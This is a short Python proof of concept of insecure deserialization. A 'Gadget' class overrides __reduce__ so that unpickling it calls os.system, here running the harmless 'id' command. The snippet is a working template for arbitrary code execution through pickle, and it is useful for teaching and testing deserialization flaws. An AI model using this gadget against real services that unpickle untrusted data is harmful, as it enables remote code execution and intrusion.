import os
import pickle


class Gadget:
    def __reduce__(self):
        return (os.system, ("id",))


blob = pickle.dumps(Gadget())
pickle.loads(blob)
